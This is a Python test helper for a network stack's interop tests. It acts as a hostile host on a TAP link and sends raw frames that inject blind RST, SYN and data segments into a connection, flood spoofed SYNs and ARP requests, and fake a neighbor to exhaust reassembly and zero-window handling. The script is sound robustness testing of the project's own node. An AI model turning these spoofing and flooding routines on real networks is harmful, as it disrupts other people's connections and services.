"""A hostile host on the TAP link (for tests/interop/test_tcp_impair_kernel.py),
run in the kernel's namespace: it writes raw Ethernet frames to the link
with an AF_PACKET socket and reads our node's answers from it.

    python tcp_attacker.py DEV JSON

JSON: ``our_mac``, ``ours`` (IPv6), ``ours4`` (IPv4), ``victim`` (the
kernel's established connection to our sink: ``[kernel_addr, kernel_port,
our_port]``), ``fake`` (an IPv6 address no one else uses) and ``seed``.
Prints one JSON line: what it sent and saw.

The attacks (RFC 5961 §1, RFC 4987, RFC 9293 §3.10.7.4):

1. blind RST, SYN, ACK and data injection into the victim connection with
   random sequence and acknowledgment numbers (the attacker knows the four
   tuple, not the sequence space), and data far outside the window;
2. a SYN flood from random addresses and ports of the link's prefix;
3. a fake host (``fake``, a made-up MAC) that announces itself with a
   Neighbor Solicitation, opens a connection to our sink and then sends
   one octet every other octet across the whole receive window
   (reassembly gaps), and a second connection to our HTTP server that asks
   for a large body and holds a zero window, so our node probes it;
4. an ARP flood: requests from random addresses and MACs to our IPv4 address.
"""

from __future__ import annotations

import ipaddress
import json
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def csum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp6(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
         win: int, payload: bytes = b"", opts: bytes = b"") -> bytes:
    hl = 20 + len(opts)
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                    (hl // 4) << 4, flags, win, 0, 0) + opts
    seg = h + payload
    ph = src + dst + struct.pack("!I3xB", len(seg), 6)
    c = csum(ph + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    ip = struct.pack("!IHBB", 6 << 28, len(seg), 6, 64) + src + dst
    return ip + seg


def icmp6(src: bytes, dst: bytes, body: bytes) -> bytes:
    ph = src + dst + struct.pack("!I3xB", len(body), 58)
    c = csum(ph + body)
    body = body[:2] + struct.pack("!H", c) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst + body


class Link:
    def __init__(self, dev: str) -> None:
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.bind((dev, 0))
        self.s.setblocking(False)
        self.sent = 0

    def send(self, frame: bytes) -> None:
        for _ in range(200):
            try:
                self.s.send(frame)
                self.sent += 1
                return
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                time.sleep(0.001)

    def recv_all(self) -> list[bytes]:
        out = []
        while True:
            try:
                out.append(self.s.recv(70000))
            except BlockingIOError:
                return out


def eth(dst: bytes, src: bytes, et: int) -> bytes:
    return dst + src + struct.pack("!H", et)


def main() -> None:
    dev, cfg = sys.argv[1], json.loads(sys.argv[2])
    rng = random.Random(cfg.get("seed", 1))
    our_mac = bytes.fromhex(cfg["our_mac"].replace(":", ""))
    ours = ipaddress.IPv6Address(cfg["ours"]).packed
    fake = ipaddress.IPv6Address(cfg["fake"]).packed
    fake_mac = bytes.fromhex("02000000aa66")
    kaddr, kport, oport = cfg["victim"]
    kern = ipaddress.IPv6Address(kaddr).packed
    kern_mac = bytes.fromhex(cfg["kernel_mac"].replace(":", ""))
    link = Link(dev)
    e6 = eth(our_mac, kern_mac, 0x86DD)
    out: dict[str, object] = {}

    # 1. blind injection into the victim connection
    n = 0
    for flags in (0x04, 0x14, 0x02, 0x10, 0x18):  # RST, RST|ACK, SYN, ACK, PSH|ACK+data
        for _ in range(400):
            pl = rng.randbytes(rng.randrange(1, 200)) if flags == 0x18 else b""
            link.send(e6 + tcp6(kern, ours, kport, oport, rng.getrandbits(32),
                                rng.getrandbits(32), flags, rng.randrange(65536), pl))
            n += 1
    out["blind"] = n

    # 2. SYN flood from the prefix's random addresses
    prefix = int(ipaddress.IPv6Address(cfg["ours"])) & ~((1 << 64) - 1)
    n = 0
    for _ in range(cfg.get("syns", 3000)):
        src = ipaddress.IPv6Address(prefix | rng.getrandbits(64)).packed
        link.send(eth(our_mac, bytes([2]) + rng.randbytes(5), 0x86DD) +
                  tcp6(src, ours, rng.randrange(1024, 65536), 7000, rng.getrandbits(32), 0,
                       0x02, 65535, opts=b"\x02\x04\x05\xa0"))
        n += 1
    out["syns"] = n
    time.sleep(0.3)
    link.recv_all()

    # 3. a fake host: NS with its link address, then two connections
    ns = struct.pack("!BBHI", 135, 0, 0, 0) + ours + b"\x01\x01" + fake_mac
    sol = b"\xff\x02" + bytes(9) + b"\x01\xff" + ours[13:]  # solicited-node group
    link.send(eth(b"\x33\x33" + sol[12:], fake_mac, 0x86DD) + icmp6(fake, sol, ns))
    time.sleep(0.2)
    fe = eth(our_mac, fake_mac, 0x86DD)

    def handshake(sport: int, dport: int, win: int) -> tuple[int, int] | None:
        iss = rng.getrandbits(32)
        link.send(fe + tcp6(fake, ours, sport, dport, iss, 0, 0x02, win,
                            opts=b"\x02\x04\x05\xa0"))
        t0 = time.monotonic()
        while time.monotonic() - t0 < 3:
            for f in link.recv_all():
                if f[:6] != fake_mac or f[12:14] != b"\x86\xdd" or f[20] != 6:
                    continue
                t = f[54:]
                sp, dp, seq, _ack, _off, fl = struct.unpack("!HHIIBB", t[:14])
                if sp == dport and dp == sport and fl & 0x12 == 0x12:
                    link.send(fe + tcp6(fake, ours, sport, dport, iss + 1, seq + 1, 0x10, win))
                    return iss + 1, seq + 1
            time.sleep(0.01)
        return None

    # reassembly gaps: one octet every other octet across the window
    h = handshake(40001, 9000, 65535)
    out["gaps_connected"] = h is not None
    if h is not None:
        snd, rcv = h
        n = 0
        for off in range(1, 65535, 2):
            link.send(fe + tcp6(fake, ours, 40001, 9000, snd + off, rcv, 0x10, 65535, b"x"))
            n += 1
        out["gaps"] = n
        time.sleep(0.5)
        acks = [f for f in link.recv_all() if f[:6] == fake_mac]
        out["gap_acks"] = len(acks)
        link.send(fe + tcp6(fake, ours, 40001, 9000, snd, rcv, 0x04, 0))  # RST at rcv_nxt

    # zero window: ask for a large body, then hold the window shut
    h = handshake(40002, 8080, 2000)
    out["zwp_connected"] = h is not None
    if h is not None:
        snd, rcv = h
        req = b"GET /5000000 HTTP/1.0\r\n\r\n"
        link.send(fe + tcp6(fake, ours, 40002, 8080, snd, rcv, 0x18, 2000, req))
        snd += len(req)
        got = 0
        probes = 0
        t0 = time.monotonic()
        nxt = rcv
        while time.monotonic() - t0 < cfg.get("zwp_seconds", 8):
            for f in link.recv_all():
                if f[:6] != fake_mac or f[12:14] != b"\x86\xdd" or f[20] != 6:
                    continue
                t = f[54:]
                sp, dp, seq, _ack, off, _fl = struct.unpack("!HHIIBB", t[:14])
                plen = struct.unpack("!H", f[18:20])[0] - (off >> 4) * 4
                if sp != 8080 or dp != 40002 or plen <= 0:
                    continue
                if seq == nxt and got == 0:
                    nxt += plen
                    got += plen
                elif seq >= nxt:
                    probes += 1  # a zero-window probe (RFC 9293 §3.8.6.1)
                # the window shuts once the first segment arrived
                link.send(fe + tcp6(fake, ours, 40002, 8080, snd, nxt, 0x10,
                                    0 if got else 2000))
            time.sleep(0.01)
        out["zwp_got"] = got
        out["zwp_probes"] = probes
        link.send(fe + tcp6(fake, ours, 40002, 8080, snd, nxt, 0x04, 0))

    # 4. ARP flood to our IPv4 address
    ours4 = ipaddress.IPv4Address(cfg["ours4"]).packed
    net4 = int(ipaddress.IPv4Address(cfg["ours4"])) & 0xFFFFFF00
    n = 0
    for _ in range(cfg.get("arps", 3000)):
        mac = bytes([2]) + rng.randbytes(5)
        sip = struct.pack("!I", net4 | rng.randrange(2, 255))
        if rng.random() < 0.5:
            sip = rng.randbytes(4)  # off-link senders too
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, rng.choice((1, 2))) + mac + sip + \
            bytes(6) + ours4
        link.send(eth(b"\xff" * 6, mac, 0x0806) + arp)
        n += 1
    out["arps"] = n
    out["sent"] = link.sent
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
